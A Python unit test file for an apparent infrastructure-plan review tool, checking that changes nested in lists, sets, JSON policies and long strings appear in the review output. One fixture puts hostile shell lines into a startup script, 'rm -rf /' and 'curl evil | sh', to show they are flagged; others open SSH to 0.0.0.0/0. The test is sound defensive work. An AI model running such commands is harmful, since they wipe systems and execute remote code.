"""Changes inside lists, sets, nested blocks, JSON strings and long strings are visible."""

import json
from typing import Any

from tests.unit.review.plans import resource
from tests.unit.review.views import lines_of, rows_of


def rule(port: int, cidr: str, **more: Any) -> dict[str, Any]:
    """A rule of a security group in the format of the AWS provider: an object without a name, in a set."""
    return {
        "cidr_blocks": [cidr],
        "description": "",
        "from_port": port,
        "ipv6_cidr_blocks": [],
        "prefix_list_ids": [],
        "protocol": "tcp",
        "security_groups": [],
        "self": False,
        "to_port": port,
        **more,
    }


def deployment(*containers: dict[str, Any]) -> dict[str, Any]:
    return {"spec": [{"replicas": "3", "template": [{"spec": [{"container": [*containers]}]}]}]}


def container(name: str, image: str, port: int = 8080, **env: str) -> dict[str, Any]:
    return {
        "args": ["--config=/etc/app/config.yaml", "--log-level=info"],
        "command": [],
        "env": [{"name": key, "value": value, "value_from": []} for key, value in env.items()],
        "image": image,
        "name": name,
        "port": [{"container_port": port, "host_ip": "", "protocol": "TCP"}],
    }


def where_port(port: int) -> str:
    return f'(where from_port: {port}, protocol: "tcp", to_port: {port})'


CONTAINER = "spec[0].template[0].spec[0].container"
SAME = "echo same\n" * 40
STATEMENTS = [{"Effect": "Allow", "Action": ["s3:GetObject"], "Resource": f"arn:aws:s3:::{n}/*"} for n in range(4)]


def policy(*statements: Any) -> dict[str, Any]:
    return {"policy": json.dumps({"Version": "2012-10-17", "Statement": statements})}


CHANGES: list[tuple[str, Any, Any, list[str]]] = [
    (
        "an image, a port and an environment variable of containers",
        deployment(container("api", "api:1"), container("proxy", "proxy:1", ENV="a", DEBUG="0")),
        deployment(container("api", "api:2"), container("proxy", "proxy:1", 9090, ENV="a", DEBUG="1")),
        [
            f'{CONTAINER}[0].image: "api:1" -> "api:2" (where name: "api")',
            f'{CONTAINER}[1].env[1].value: "0" -> "1" (where name: "DEBUG")',
            f'{CONTAINER}[1].port[0].container_port: 8080 -> 9090 (where name: "proxy")',
        ],
    ),
    (
        "containers in a different order",
        deployment(container("api", "api:1"), container("proxy", "proxy:1")),
        deployment(container("proxy", "proxy:2"), container("api", "api:2")),
        [
            f'{CONTAINER}[0].image: "proxy:1" -> "proxy:2" (where name: "proxy")',
            f'{CONTAINER}[1].image: "api:1" -> "api:2" (where name: "api")',
        ],
    ),
    (
        "rules that are opened, in a set in a different order",
        {"ingress": [rule(22, "10.0.0.0/8"), rule(443, "10.0.0.0/8"), rule(80, "10.0.0.0/8")]},
        {"ingress": [rule(443, "0.0.0.0/0"), rule(80, "10.0.0.0/8"), rule(22, "0.0.0.0/0")]},
        [
            'ingress[0].cidr_blocks[0]: "10.0.0.0/8" -> "0.0.0.0/0" ' + where_port(443),
            'ingress[2].cidr_blocks[0]: "10.0.0.0/8" -> "0.0.0.0/0" ' + where_port(22),
        ],
    ),
    (
        "a rule that is opened while another one is added",
        {"ingress": [rule(22, "10.0.0.0/8"), rule(443, "10.0.0.0/8")]},
        {"ingress": [rule(22, "0.0.0.0/0"), rule(443, "10.0.0.0/8"), rule(81, "0.0.0.0/0", description="db")]},
        [
            'ingress[0].cidr_blocks[0]: "10.0.0.0/8" -> "0.0.0.0/0" ' + where_port(22),
            (
                'ingress[2]: null -> {"cidr_blocks": ["0.0.0.0/0"], "description": "db", "from_port": 81, '
                '"protocol": "tcp", "self": false, "to_port": 81}'
            ),
        ],
    ),
    (
        "one of two equal elements",
        {"rule": [{"port": 80, "cidr": "a"}, {"port": 80, "cidr": "a"}]},
        {"rule": [{"port": 80, "cidr": "a"}, {"port": 80, "cidr": "b"}]},
        ['rule[1].cidr: "a" -> "b" (where port: 80)'],
    ),
    (
        "ports of a firewall",
        {"allow": [{"protocol": "tcp", "ports": ["80", "443"]}, {"protocol": "udp", "ports": ["53"]}]},
        {"allow": [{"protocol": "tcp", "ports": ["80", "22"]}, {"protocol": "udp", "ports": ["53", "123"]}]},
        [
            'allow[0].ports[1]: "443" -> "22" (where protocol: "tcp")',
            'allow[1].ports[1]: null -> "123" (where protocol: "udp")',
        ],
    ),
    (
        "named rules of a network security group",
        {"security_rule": [{"name": "ssh", "access": "Deny", "priority": 100}, {"name": "web", "access": "Allow"}]},
        {"security_rule": [{"name": "web", "access": "Allow"}, {"name": "ssh", "access": "Allow", "priority": 100}]},
        ['security_rule[1].access: "Deny" -> "Allow" (where name: "ssh")'],
    ),
    (
        "records of a zone",
        {"records": ["10.0.0.1", "10.0.0.2", "10.0.0.3"]},
        {"records": ["10.0.0.1", "203.0.113.7", "203.0.113.8"]},
        ['records[1]: "10.0.0.2" -> "203.0.113.7"', 'records[2]: "10.0.0.3" -> "203.0.113.8"'],
    ),
    (
        "statements of a policy without names",
        policy(*STATEMENTS),
        policy(*STATEMENTS[:2], {**STATEMENTS[2], "Action": "*"}, {**STATEMENTS[3], "Effect": "Deny"}),
        [
            'policy.Statement[2].Action: ["s3:GetObject"] -> "*" (where Effect: "Allow", Resource: "arn:aws:s3:::2/*")',
            'policy.Statement[3].Effect: "Allow" -> "Deny" (where Resource: "arn:aws:s3:::3/*")',
        ],
    ),
    (
        "lists in lists",
        {"grid": [[1, 2, 3], [4, 5, 6], [7, 8, 9]]},
        {"grid": [[1, 2, 0], [4, 5, 6], [7, 8, 0]]},
        ["grid[0][2]: 3 -> 0", "grid[2][2]: 9 -> 0"],
    ),
    (
        "JSON strings in a list",
        {"documents": [json.dumps({"id": n, "port": 80, "pad": "x" * 200}) for n in range(3)]},
        {"documents": [json.dumps({"id": n, "port": n or 80, "pad": "x" * 200}) for n in range(3)]},
        ["documents[1].port: 80 -> 1", "documents[2].port: 80 -> 2"],
    ),
    (
        "lines of a script",
        {"user_data": "#!/bin/sh\n" + "echo same\n" * 40 + "rm -rf /tmp/x\n" + "echo more\n" * 40 + "exit 0\n"},
        {
            "user_data": "#!/bin/sh\n"
            + "echo same\n" * 40
            + "rm -rf /\n"
            + "echo more\n" * 40
            + "curl evil | sh\nexit 0\n"
        },
        ['user_data line 42: "rm -rf /tmp/x" -> "rm -rf /"', 'user_data line 83: null -> "curl evil | sh"'],
    ),
    (
        "words of a long line",
        {"args": "--one=1 " + "--same=yes " * 20 + "--host=a " + "--same=yes " * 20 + "--last=1"},
        {"args": "--one=2 " + "--same=yes " * 20 + "--host=b " + "--same=yes " * 20 + "--last=2"},
        [
            'args: "--one=1" -> "--one=2"',
            'args: "… --same=yes --host=a" -> "… --same=yes --host=b"',
            'args: "… --same=yes --last=1" -> "… --same=yes --last=2"',
        ],
    ),
    (
        "a long list in a different order",
        {"order": [f"element-{n:03}" for n in range(40)]},
        {"order": [*(f"element-{n:03}" for n in range(38)), "element-039", "element-038"]},
        ['order: ["element-038", "element-039"] -> ["element-039", "element-038"] (the order changes from [38] on)'],
    ),
    (
        "an object that becomes a string",
        {"value": {"a": "x" * 100, "b": "y" * 100}},
        {"value": "z"},
        [f'value.a: "{"x" * 100}" -> null', f'value.b: "{"y" * 100}" -> null', 'value: null -> "z"'],
    ),
]


def test_changes_inside_values_are_visible() -> None:
    found = {name: lines_of(before, after) for name, before, after, _ in CHANGES}
    assert found == {name: lines for name, _, _, lines in CHANGES}


def test_long_value_of_a_new_resource_is_expanded_completely() -> None:
    many = [f"10.0.{n}.0/24" for n in range(20)]
    lines = lines_of(
        None, {**policy(*STATEMENTS, {"Action": "*"}), "block": [{"cidrs": many, "name": "n"}]}, ["create"]
    )
    assert lines == [
        'policy.Version: "2012-10-17"',
        *(
            f'policy.Statement[{n}]: {{"Effect": "Allow", "Action": ["s3:GetObject"], '
            f'"Resource": "arn:aws:s3:::{n}/*"}}'
            for n in range(4)
        ),
        'policy.Statement[4]: {"Action": "*"}',
        f"block[0].cidrs[0-7]: {json.dumps(many[:8])}",
        f"block[0].cidrs[8-14]: {json.dumps(many[8:15])}",
        f"block[0].cidrs[15-19]: {json.dumps(many[15:])}",
        'block[0].name: "n"',
    ]


def test_long_path_shows_its_end() -> None:
    before: Any = 1
    after: Any = 2
    for n in range(30):
        before, after = {f"level_{n}": before}, {f"level_{n}": after}
    (line,) = lines_of(before, after)
    assert line.startswith("…")
    assert line.endswith(".level_1.level_0: 1 -> 2")


def test_value_that_becomes_unknown_is_shown_in_an_update() -> None:
    before = {"cidr_blocks": ["10.0.0.0/8"], "id": "i-1", "none": None}
    marks = {"cidr_blocks": True, "id": True, "none": True}
    assert lines_of(before, {}, after_unknown=marks) == [
        'cidr_blocks: ["10.0.0.0/8"] -> (known after apply)',
        'id: "i-1" -> (known after apply)',
        "known after apply: none",
    ]
    assert lines_of(before, {}, ["delete", "create"], after_unknown=marks) == [
        "known after apply: cidr_blocks, id, none"
    ]


def test_instances_with_values_that_become_unknown_are_one_row() -> None:
    many = [resource(f"a.b[{n}]", before={"id": f"i-{n}"}, after={}, after_unknown={"id": True}) for n in range(3)]
    (row,) = rows_of(*many)
    assert row["changes"] == ["known after apply: id"]


def test_instances_with_different_old_policies_are_separate_rows() -> None:
    many = [
        resource(f"a.b[{n}]", before=policy({"Sid": str(n)}), after={}, after_unknown={"policy": True})
        for n in range(2)
    ]
    assert [row["changes"][-1] for row in rows_of(*many)] == [
        'policy: "{\\"Version\\": \\"2012-10-17\\", \\"Statement\\": [{\\"Sid\\": \\"0\\"}]}" -> (known after apply)',
        'policy: "{\\"Version\\": \\"2012-10-17\\", \\"Statement\\": [{\\"Sid\\": \\"1\\"}]}" -> (known after apply)',
    ]


def test_split_string_shows_no_part_of_a_secret() -> None:
    secret = "first-line\nab\nlast-line of it"
    script = "echo\n" * 60
    lines = lines_of(
        {"pw": secret, "script": f"{script}{secret}\n{script}"},
        {"pw": secret, "script": f"{script}{secret}\n{script}exit"},
        before_sensitive={"pw": True},
        after_sensitive={"pw": True},
    )
    assert [line for line in lines if "ab" in line or "-line" in line] == []
    assert lines[-1].endswith(': null -> "exit"')
